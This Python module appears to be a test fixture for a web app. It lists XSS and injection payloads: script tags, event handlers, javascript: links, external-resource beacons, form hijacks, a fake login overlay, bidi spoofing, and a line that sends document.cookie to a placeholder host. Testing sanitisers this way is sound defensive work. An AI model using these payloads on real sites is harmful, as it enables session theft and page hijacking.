"""Texts that would run, reach out or deceive where a page, a report or an export trusts them.

`{there}` is the address of somebody else. Each that runs sets `window.ran`.
"""

from typing import Final

_SCRIPTS: Final = (
    "<script>window.ran = 1</script>",
    '<script src="{there}/script.js"></script>',
    '<script type="module" src="{there}/module.js"></script>',
    "<ScRiPt>window.ran = 1</sCrIpT>",
    "<scr<script>ipt>window.ran = 1</script>",
    "</script><script>window.ran = 1</script>",
    "</title></style></textarea></pre></details><script>window.ran = 1</script>",
    "<!--><script>window.ran = 1</script-->",
    "<![CDATA[<script>window.ran = 1</script>]]>",
    "```html\n</code></pre><script>window.ran = 1</script>\n```",
    "`</code><script>window.ran = 1</script>`",
    "| a |\n|---|\n| <script>window.ran = 1</script> |",
    '<noscript><p title="</noscript><script>window.ran = 1</script>"></noscript>',
    "<template><script>window.ran = 1</script></template>",
    "<script>fetch('{there}/fetch?' + document.cookie)</script>",
    "{{{{constructor.constructor('window.ran = 1')()}}}} ${{window.ran = 1}} #{{window.ran = 1}}",
)
_HANDLERS: Final = (
    '<img src="x" onerror="window.ran = 1">',
    "<img src=x onerror=window.ran=1//",
    '<img src="x" ONERROR = "window.ran = 1">',
    '<img src="x"\nonerror\n=\n"window.ran = 1">',
    '<img src="x` `onerror=window.ran=1">',
    '<body onload="window.ran = 1"><body onpageshow="window.ran = 1">',
    '<details open ontoggle="window.ran = 1">x</details><input autofocus onfocus="window.ran = 1">',
    '<div onmouseover="window.ran = 1" style="width:100%;height:100px">x</div>',
    '<video><source onerror="window.ran = 1"></video><audio src="x" onerror="window.ran = 1"></audio>',
    '<marquee onstart="window.ran = 1">x</marquee>',
    '<div id="x" style="animation: spin 1s" onanimationstart="window.ran = 1">x</div>',
    '<button id="ask" onclick="window.ran = 1">Ask</button><button id="stop">Stop</button>',
    '<select autofocus onfocus="window.ran = 1"><option>x</option></select>',
    '<a onclick="window.ran = 1" class="send">x</a>',
)
_LINKS: Final = (
    '<a href="javascript:window.ran = 1" id="link">a link</a>',
    "[a link](javascript:window.ran=1)",
    "[a link](JaVaScRiPt:window.ran=1)",
    "<[a link](java\tscript:window.ran=1)>",
    "[a link](&#106;avascript:window.ran=1)",
    "[a link](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuPTE8L3NjcmlwdD4=)",
    "[a link](vbscript:window.ran=1)",
    "[a link][1]\n\n[1]: javascript:window.ran=1",
    "<javascript:window.ran=1>",
    '<a href=" javascript:window.ran=1">a link</a><a href="&#x1;javascript:window.ran=1">a link</a>',
    '<area href="javascript:window.ran=1"><map name="x"><area href="javascript:window.ran=1"></map>',
)
_REQUESTS: Final = (
    '<img src="{there}/image.png?secret=1">',
    '<img srcset="{there}/set.png 1x" src="data:,">',
    '<picture><source srcset="{there}/picture.png"><img src="data:,"></picture>',
    "![a picture]({there}/markdown.png?secret=1)",
    "![a picture](//localhost:9/protocol.png)",
    "![a picture](/gradio_api/file={there}/through-the-server.png?secret=1)",
    "![a picture](/gradio_api/proxy={there}/through-the-proxy.png)",
    "![a picture](/api/stream?question=again)",
    '<video src="{there}/video.mp4" poster="{there}/poster.png" autoplay></video>',
    '<audio src="{there}/audio.mp3" autoplay></audio><track src="{there}/track.vtt">',
    '<object data="{there}/object"></object><embed src="{there}/embed">',
    '<iframe src="{there}/frame.html" srcdoc="<script>parent.ran = 1</script>"></iframe>',
    '<iframe src="javascript:parent.ran=1"></iframe><iframe src="data:text/html,<script>top.ran=1</script>"></iframe>',
    '<link rel="stylesheet" href="{there}/sheet.css"><link rel="preload" as="image" href="{there}/preload.png">',
    '<link rel="prefetch" href="{there}/prefetch"><link rel="dns-prefetch" href="{there}">',
    '<meta http-equiv="refresh" content="0;url={there}/refresh">',
    '<base href="{there}/">',
    '<input type="image" src="{there}/input.png"><body background="{there}/body.png">',
    '<table background="{there}/table.png"><tr><td background="{there}/cell.png">x</td></tr></table>',
)
_STYLES: Final = (
    '<style>body {{ background: url("{there}/style.png") }} #ask {{ display: none }}</style>',
    "<style>@import '{there}/import.css';</style>",
    "<div style=\"background-image: url('{there}/background.png')\">x</div>",
    '<div style="list-style: url({there}/list.png); cursor: url({there}/cursor.cur), auto">x</div>',
    '<div style="position:fixed;inset:0;z-index:99999;background:white">Please log in</div>',
)
_FORMS: Final = (
    '<form action="{there}/form"><input name="secret" value="1"><button class="send">Send</button></form>',
    '<form action="javascript:window.ran = 1"><button type="submit" class="send">Go</button></form>',
    '<form action="/api/stream"><input name="question" value="again"><button class="send">Go</button></form>',
    '<form id="x"></form><button form="x" formaction="javascript:window.ran=1" class="send">Go</button>',
    '<div id="question"><textarea>stolen</textarea></div><textarea id="run-id">forged</textarea>',
)
_DRAWINGS: Final = (
    '<svg onload="window.ran = 1"><script>window.ran = 1</script></svg>',
    '<svg><use href="{there}/use.svg#a"/><image href="{there}/image.svg"/></svg>',
    '<svg><a xlink:href="javascript:window.ran=1" class="send"><text y="20">x</text></a></svg>',
    '<svg><animate onbegin="window.ran = 1" attributeName="x" dur="1s"></svg>',
    '<svg><foreignObject><img src="x" onerror="window.ran = 1"></foreignObject></svg>',
    '<math><mtext><style><img src="x" onerror="window.ran = 1"></style></mtext></math>',
    '<math href="javascript:window.ran=1"><maction actiontype="statusline" xlink:href="javascript:window.ran=1">x',
    "![a drawing](data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='window.ran=1'/>)",
)
_FORMULAS: Final = (
    "$$\\href{{javascript:window.ran=1}}{{x}}$$ $$\\includegraphics{{{there}/latex.png}}$$",
    "$$\\htmlData{{onclick=window.ran=1}}{{x}} \\htmlId{{ask}}{{x}} \\url{{javascript:window.ran=1}}$$",
    "$$\\def\\x{{\\x\\x}}\\x$$ \\(\\text{{<img src=x onerror=window.ran=1>}}\\)",
    "\\(\\href{{javascript:window.ran=1}}{{x}}\\) \\[\\htmlData{{onclick=window.ran=1}}{{x}}\\]",
    '```mermaid\ngraph TD; A["<img src=x onerror=window.ran=1>"] --> B; click A "javascript:window.ran=1"\n```',
)
_CONTROLS: Final = "\u0000\u2028\u2029\u0085\u000b window"
_DIRECTIONS: Final = (
    "\u202egnp.exe\u202c safe",
    "\u2066\u202eevil\u2069 \u200f\u200e\u061c",
    "[https://good.example\u202e/moc.live](javascript:window.ran=1)",
)

PAYLOADS: Final = (
    *(*_SCRIPTS, *_HANDLERS, *_LINKS, *_REQUESTS),
    *(*_STYLES, *_FORMS, *_DRAWINGS, *_FORMULAS, *_DIRECTIONS, _CONTROLS),
)


def payloads(there: str) -> list[str]:
    """Return all of them, with the address of somebody else in them."""
    return [payload.format(there=there) for payload in PAYLOADS]


def printable(there: str) -> list[str]:
    """Return all but the signs that are no text: in a question or a suite they are refused."""
    return [text for text in payloads(there) if text != _CONTROLS]
